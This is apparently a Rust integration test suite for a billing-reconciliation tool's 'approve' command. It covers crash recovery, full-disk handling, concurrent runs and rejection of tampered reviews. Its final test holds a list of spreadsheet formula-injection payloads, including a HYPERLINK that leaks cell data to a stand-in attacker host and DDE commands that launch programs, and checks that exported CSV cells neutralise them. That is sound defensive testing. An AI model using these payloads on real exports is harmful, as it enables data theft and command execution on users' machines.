//! `host-harness approve` under attack, as issue 17 tried it: killed between its steps, on a
//! full disk, run twice at once, and given reviews that `sync` did not write.
//!
//! Each test builds its tenant with the library (a PSA snapshot, a mapping, and the review
//! `sync` would make of a vendor's counts), writes the files `sync` would write, and runs the
//! `host-harness` binary on them: no plugin is needed, since `approve` calls none.

mod support;

use std::io::{BufRead as _, BufReader};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Output, Stdio};
use std::sync::OnceLock;

use host_harness::files;
use host_harness::seed::history::Step;
use host_harness::seed::mapping::{AccountMapping, Basis, Mapping, ServiceMapping, State};
use host_harness::seed::psa::{sha256_hex, AgreementLine, PsaAccount, PsaSnapshot};
use host_harness::seed::review::{MadeFrom, Review, Synced};
use plugin_contract::{Account, Usage, UsageRecord};
use serde_json::Value;

/// One PSA line of a test tenant: the PSA's account and product, what it bills, and the vendor
/// account mapped to it with its name and count.
struct Line {
    account: String,
    account_name: String,
    product: String,
    billed: u64,
    vendor_name: String,
    counted: u64,
}

impl Line {
    /// Account `account` (named `account Co`) billed 1 of `product`, counted `counted`.
    fn new(account: &str, product: &str, counted: u64) -> Line {
        Line {
            account: account.into(),
            account_name: format!("{account} Co"),
            product: product.into(),
            billed: 1,
            vendor_name: format!("Vendor {account}"),
            counted,
        }
    }
}

/// The files `sync` leaves for `approve`, in a folder removed when dropped.
struct Tenant {
    dir: tempfile::TempDir,
    psa: PathBuf,
}

impl Tenant {
    /// Writes `psa.json` (or `psa.csv`), `mapping.json` and `review.json` for `lines`: each line's
    /// vendor account `v<account>` is mapped to its PSA account, and each product's service
    /// `s<product>` to its product.
    fn new(lines: &[Line], csv: bool) -> Tenant {
        let dir = tempfile::tempdir().expect("a scratch folder");
        let mut psa = PsaSnapshot::default();
        let mut mapping = Mapping::default();
        let mut accounts = Vec::new();
        let mut records = Vec::new();
        for line in lines {
            if !psa.accounts.iter().any(|a| a.id == line.account) {
                psa.accounts.push(PsaAccount {
                    id: line.account.clone(),
                    name: line.account_name.clone(),
                });
                mapping.accounts.push(AccountMapping {
                    vendor_account_id: format!("v{}", line.account),
                    vendor_name: line.vendor_name.clone(),
                    state: State::Mapped,
                    psa_account_id: Some(line.account.clone()),
                    basis: Basis::MappingFile,
                    reason: String::new(),
                    suggestions: Vec::new(),
                });
                accounts.push(Account {
                    id: format!("v{}", line.account),
                    name: line.vendor_name.clone(),
                    description: String::new(),
                    status: "active".into(),
                    domains: Vec::new(),
                    psa_refs: Vec::new(),
                });
            }
            if !mapping
                .services
                .iter()
                .any(|s| s.service_id == format!("s{}", line.product))
            {
                mapping.services.push(ServiceMapping {
                    service_id: format!("s{}", line.product),
                    service_name: line.product.clone(),
                    state: State::Mapped,
                    psa_product_id: Some(line.product.clone()),
                    reason: String::new(),
                });
            }
            psa.agreement_lines.push(AgreementLine {
                account_id: line.account.clone(),
                product_id: line.product.clone(),
                product_name: format!("{} name", line.product),
                quantity: line.billed,
            });
            records.push(UsageRecord {
                account_id: format!("v{}", line.account),
                service_id: format!("s{}", line.product),
                quantity: line.counted,
            });
        }
        records.sort();
        let psa_path = dir.path().join(if csv { "psa.csv" } else { "psa.json" });
        psa.save(&psa_path).expect("the PSA snapshot is written");
        let mapping_json = serde_json::to_string_pretty(&mapping).expect("JSON") + "\n";
        std::fs::write(dir.path().join("mapping.json"), &mapping_json).expect("written");
        let usage = Usage {
            as_of: support::AS_OF.into(),
            records,
            warnings: Vec::new(),
            failed_accounts: Vec::new(),
        };
        let mut review = Review::build(Synced { accounts, usage }, &mapping, &psa);
        review.made_from = Some(MadeFrom {
            psa_sha256: sha256_hex(&std::fs::read(&psa_path).expect("read")),
            mapping_sha256: sha256_hex(mapping_json.as_bytes()),
        });
        let tenant = Tenant { dir, psa: psa_path };
        tenant.write_review(&serde_json::to_value(&review).expect("JSON"));
        tenant
    }

    /// Returns the path of `name` in the tenant's folder.
    fn path(&self, name: &str) -> PathBuf {
        self.dir.path().join(name)
    }

    /// Returns the review as JSON.
    fn review(&self) -> Value {
        serde_json::from_str(&read(&self.path("review.json"))).expect("the review is JSON")
    }

    /// Rewrites the review.
    fn write_review(&self, review: &Value) {
        let text = serde_json::to_string_pretty(review).expect("JSON");
        std::fs::write(self.path("review.json"), text).expect("written");
    }

    /// Returns the `approve` command of `choice` on the tenant's files, with `env`.
    fn command(&self, choice: &[&str], env: &[(&str, &str)]) -> Command {
        let mut command = Command::new(harness());
        command
            .arg("approve")
            .arg("--review")
            .arg(self.path("review.json"))
            .arg("--psa")
            .arg(&self.psa)
            .args(choice)
            .env_remove("HOST_HARNESS_TEST_STOP_AT")
            .envs(env.iter().copied());
        command
    }

    /// Runs `approve` with `choice` and `env`.
    fn approve(&self, choice: &[&str], env: &[(&str, &str)]) -> Output {
        self.command(choice, env)
            .output()
            .expect("host-harness runs")
    }

    /// Returns the history's lines.
    fn history(&self) -> Vec<Value> {
        match std::fs::read_to_string(self.path("approvals.jsonl")) {
            Ok(text) => text
                .lines()
                .map(|line| serde_json::from_str(line).expect("a JSON line"))
                .collect(),
            Err(_) => Vec::new(),
        }
    }
}

/// Builds the `host-harness` binary once and returns its path (no plugin build: approve calls
/// none).
fn harness() -> &'static Path {
    static BUILT: OnceLock<PathBuf> = OnceLock::new();
    BUILT.get_or_init(|| {
        support::cargo_build(&["-p", "host-harness", "--bin", "host-harness"]);
        support::target_dir().join("debug").join("host-harness")
    })
}

/// Reads a file.
fn read(path: &Path) -> String {
    std::fs::read_to_string(path).unwrap_or_else(|e| panic!("{}: {e}", path.display()))
}

/// Returns what a run printed on stderr.
fn stderr(output: &Output) -> String {
    String::from_utf8_lossy(&output.stderr).into_owned()
}

/// `n` accounts `P<i>`, each billed 1 of `PROD` and counted 2: `n` reconcile lines.
fn reconciles(n: usize) -> Vec<Line> {
    (0..n)
        .map(|i| Line::new(&format!("P{i:05}"), "PROD", 2))
        .collect()
}

#[test]
fn a_killed_approve_leaves_the_old_psa_or_the_new() {
    let lines = reconciles(300);
    let reference = Tenant::new(&lines, false);
    let old = read(&reference.psa);
    let done = reference.approve(&["--all"], &[]);
    assert!(done.status.success(), "{}", stderr(&done));
    let new = read(&reference.psa);
    let changes = read(&reference.path("changes.json"));
    assert_ne!(old, new);

    for step in Step::ALL {
        let tenant = Tenant::new(&lines, false);
        let killed = tenant.approve(&["--all"], &[("HOST_HARNESS_TEST_STOP_AT", step.as_str())]);
        assert!(!killed.status.success(), "{step:?}: it ran to the end");
        // Killed: the snapshot is whole, old before the history's line and new after it.
        let psa = read(&tenant.psa);
        let history = tenant.history();
        match step {
            Step::Staged => assert!(psa == old && history.is_empty(), "{step:?}"),
            Step::Committed => assert!(psa == old && history.len() == 1, "{step:?}"),
            _ => assert!(psa == new && history.len() == 1, "{step:?}"),
        }
        // The next approve finishes it (or makes it, when the kill came first), once.
        let again = tenant.approve(&["--all"], &[]);
        let text = stderr(&again);
        if step == Step::Staged {
            assert!(again.status.success(), "{step:?}: {text}");
        } else {
            assert!(text.contains("approved already?"), "{step:?}: {text}");
        }
        if step == Step::Committed {
            assert!(
                text.contains("host-harness: finished the approval of "),
                "{text}"
            );
        }
        assert_eq!(read(&tenant.psa), new, "{step:?}");
        assert_eq!(read(&tenant.path("changes.json")), changes, "{step:?}");
        assert_eq!(tenant.history().len(), 1, "{step:?}");
    }
}

#[test]
fn a_full_disk_leaves_the_psa_whole_and_approves_nothing() {
    // psa.json of 3,000 lines is about 400 KB; the limit lets a process write 64 blocks.
    let lines = reconciles(3000);
    for (case, shell) in [
        ("EFBIG", r#"ulimit -f 64; trap '' XFSZ; exec "$0" "$@""#),
        ("SIGXFSZ", r#"ulimit -f 64; exec "$0" "$@""#),
    ] {
        let tenant = Tenant::new(&lines, false);
        let old = read(&tenant.psa);
        let approve = tenant.command(&["--all"], &[]);
        let mut full = Command::new("sh");
        full.arg("-c")
            .arg(shell)
            .arg(approve.get_program())
            .args(approve.get_args());
        let output = full.output().expect("sh runs");
        assert!(!output.status.success(), "{case}: it wrote past the limit");
        if case == "EFBIG" {
            let text = stderr(&output);
            assert!(
                text.contains("cannot write") && text.contains("nothing was approved"),
                "{text}"
            );
        }
        assert_eq!(
            read(&tenant.psa),
            old,
            "{case}: the PSA snapshot is not whole"
        );
        assert!(tenant.history().is_empty(), "{case}");
        assert!(!tenant.path("changes.json").exists(), "{case}");
        let later = tenant.approve(&["--all"], &[]);
        assert!(later.status.success(), "{case}: {}", stderr(&later));
        assert_eq!(tenant.history().len(), 1, "{case}");
    }
}

/// Starts `approve` of each choice while the test holds the PSA snapshot's lock, waits until
/// each says it waits for it, then lets them run; returns their outputs.
fn at_once(tenant: &Tenant, choices: &[&[&str]]) -> Vec<Output> {
    let lock = files::lock_beside(&tenant.psa, |_| panic!("nobody holds it")).expect("locked");
    let children: Vec<Child> = choices
        .iter()
        .map(|choice| {
            let mut child = tenant
                .command(choice, &[])
                .stdout(Stdio::piped())
                .stderr(Stdio::piped())
                .spawn()
                .expect("host-harness starts");
            let mut first = String::new();
            let stderr = child.stderr.as_mut().expect("stderr");
            BufReader::new(stderr).read_line(&mut first).expect("read");
            assert!(first.contains("waiting for it to finish"), "{first}");
            child
        })
        .collect();
    drop(lock);
    children
        .into_iter()
        .map(|child| child.wait_with_output().expect("host-harness ends"))
        .collect()
}

#[test]
fn two_approvals_of_different_lines_at_once_both_land_in_the_psa() {
    let tenant = Tenant::new(&reconciles(2), false);
    let outputs = at_once(
        &tenant,
        &[&["--line", "P00000/PROD"], &["--line", "P00001/PROD"]],
    );
    for output in &outputs {
        assert!(output.status.success(), "{}", stderr(output));
    }
    let psa = PsaSnapshot::load(&tenant.psa).expect("the PSA snapshot reads");
    let billed: Vec<u64> = psa.agreement_lines.iter().map(|l| l.quantity).collect();
    assert_eq!(billed, [2, 2], "a change was lost");
    assert_eq!(tenant.history().len(), 2);
}

#[test]
fn the_same_line_approved_twice_at_once_is_recorded_once() {
    let tenant = Tenant::new(&reconciles(2), false);
    let line: &[&str] = &["--line", "P00001/PROD"];
    let outputs = at_once(&tenant, &[line, line]);
    let passed = outputs.iter().filter(|o| o.status.success()).count();
    assert_eq!(
        passed,
        1,
        "{:?}",
        outputs.iter().map(stderr).collect::<Vec<_>>()
    );
    let refused = outputs
        .iter()
        .find(|o| !o.status.success())
        .expect("one refused");
    assert!(
        stderr(refused).contains("approved already?"),
        "{}",
        stderr(refused)
    );
    assert_eq!(tenant.history().len(), 1);
}

#[test]
fn a_review_made_from_another_psa_or_mapping_is_refused() {
    let tenant = Tenant::new(&reconciles(2), false);
    let psa = read(&tenant.psa);
    std::fs::write(&tenant.psa, psa.replace("P00000 Co", "Renamed Co")).expect("written");
    let other_psa = tenant.approve(&["--all"], &[]);
    assert!(
        stderr(&other_psa).contains("the review was made from another PSA snapshot"),
        "{}",
        stderr(&other_psa)
    );
    std::fs::write(&tenant.psa, &psa).expect("written");
    let mapping = read(&tenant.path("mapping.json"));
    std::fs::write(tenant.path("mapping.json"), mapping.replace("\n", "\n ")).expect("written");
    let other_mapping = tenant.approve(&["--all"], &[]);
    assert!(
        stderr(&other_mapping).contains("the review was made from another mapping file"),
        "{}",
        stderr(&other_mapping)
    );
    std::fs::write(tenant.path("mapping.json"), &mapping).expect("written");
    let mut review = tenant.review();
    review.as_object_mut().expect("object").remove("made_from");
    tenant.write_review(&review);
    let unbound = tenant.approve(&["--all"], &[]);
    assert!(
        stderr(&unbound).contains("does not say which PSA snapshot and mapping it was made from"),
        "{}",
        stderr(&unbound)
    );
    assert_eq!(read(&tenant.psa), psa);
    assert!(tenant.history().is_empty());
}

/// An edit of a review that `sync` would never write.
type Spoil = fn(&mut Value);

#[test]
fn a_review_sync_did_not_write_is_refused_and_writes_nothing() {
    let spoils: [(&str, Spoil); 4] = [
        ("a count of 2^64-1", |r| {
            r["lines"][0]["vendor_quantity"] = u64::MAX.into();
            r["lines"][0]["delta"] = (u64::MAX - 1).into();
        }),
        ("a PSA account the PSA does not have", |r| {
            r["lines"][0]["psa_account_id"] = "NOPE".into();
        }),
        ("as_of not-a-time", |r| r["as_of"] = "not-a-time".into()),
        ("a vendor account the mapping does not map there", |r| {
            r["lines"][0]["vendor_accounts"][0]["vendor_account_id"] = "vP00001".into();
        }),
    ];
    for (case, spoil) in spoils {
        let tenant = Tenant::new(&reconciles(2), false);
        let psa = read(&tenant.psa);
        let mut review = tenant.review();
        spoil(&mut review);
        tenant.write_review(&review);
        let run = tenant.approve(&["--all"], &[]);
        assert_eq!(run.status.code(), Some(1), "{case}: {}", stderr(&run));
        assert!(
            stderr(&run).contains("nothing was approved"),
            "{case}: {}",
            stderr(&run)
        );
        assert_eq!(read(&tenant.psa), psa, "{case}");
        assert!(tenant.history().is_empty(), "{case}");
    }
    // A PSA account's name in the change set is the snapshot's, whatever the review says.
    let tenant = Tenant::new(&reconciles(1), false);
    let mut review = tenant.review();
    review["lines"][0]["psa_account_name"] = "Not The PSA's Name".into();
    tenant.write_review(&review);
    let run = tenant.approve(&["--all"], &[]);
    assert!(run.status.success(), "{}", stderr(&run));
    let changes = read(&tenant.path("changes.json"));
    assert!(
        changes.contains("\"psa_account_name\": \"P00000 Co\""),
        "{changes}"
    );
}

#[test]
fn ids_with_a_slash_name_two_lines_not_one() {
    let tenant = Tenant::new(&[Line::new("A", "B/C", 2), Line::new("A/B", "C", 3)], false);
    let run = tenant.approve(&["--line", "A/B/C"], &[]);
    assert_eq!(run.status.code(), Some(2), "{}", stderr(&run));
    assert!(
        stderr(&run).contains("\"A/B/C\" is not a line key"),
        "{}",
        stderr(&run)
    );
    let run = tenant.approve(&["--line", "A/B%2FC"], &[]);
    assert!(run.status.success(), "{}", stderr(&run));
    let changes: Value = serde_json::from_str(&read(&tenant.path("changes.json"))).expect("JSON");
    let changed = &changes["changes"];
    assert_eq!(changed.as_array().map(Vec::len), Some(1), "{changes}");
    assert_eq!(
        (&changed[0]["psa_account_id"], &changed[0]["psa_product_id"]),
        (&"A".into(), &"B/C".into())
    );
    let run = tenant.approve(&["--line", "A%2FB/C"], &[]);
    assert!(run.status.success(), "{}", stderr(&run));
    assert_eq!(tenant.history().len(), 2);
}

/// The payloads issue 17 put in vendor names, and one of each start OWASP names.
const FORMULAS: [&str; 7] = [
    "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Open\")",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "\t=1+1",
    "\r=1+1",
];

#[test]
fn formula_names_reach_no_csv_cell_as_a_formula() {
    let lines: Vec<Line> = FORMULAS
        .iter()
        .enumerate()
        .map(|(i, formula)| Line {
            account_name: (*formula).into(),
            vendor_name: (*formula).into(),
            ..Line::new(&format!("P{i}"), "PROD", 2)
        })
        .collect();
    let tenant = Tenant::new(&lines, true);
    let run = tenant.approve(&["--all"], &[]);
    assert!(run.status.success(), "{}", stderr(&run));
    for file in ["changes.csv", "psa.csv"] {
        let text = read(&tenant.path(file));
        let mut cells = csv::Reader::from_reader(text.as_bytes());
        let mut seen = 0;
        for row in cells.records() {
            for cell in row.expect("a CSV row").iter() {
                let formula = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
                assert!(!formula, "{file}: {cell:?}");
                seen += usize::from(cell.starts_with('\''));
            }
        }
        assert!(seen >= FORMULAS.len(), "{file}: {text}");
    }
    // The PSA snapshot reads back with its names as they were.
    let psa = PsaSnapshot::load(&tenant.psa).expect("reads");
    let names: Vec<&str> = psa.accounts.iter().map(|a| a.name.as_str()).collect();
    assert_eq!(names, FORMULAS);
}
